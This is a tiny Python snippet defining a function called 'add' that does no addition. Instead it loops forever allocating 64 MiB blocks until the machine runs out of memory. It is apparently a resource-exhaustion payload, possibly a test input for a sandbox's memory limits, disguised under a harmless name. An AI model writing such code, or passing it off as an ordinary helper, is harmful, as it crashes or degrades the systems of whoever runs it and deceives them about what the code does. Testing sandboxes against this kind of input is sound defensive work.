def add(x, y):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
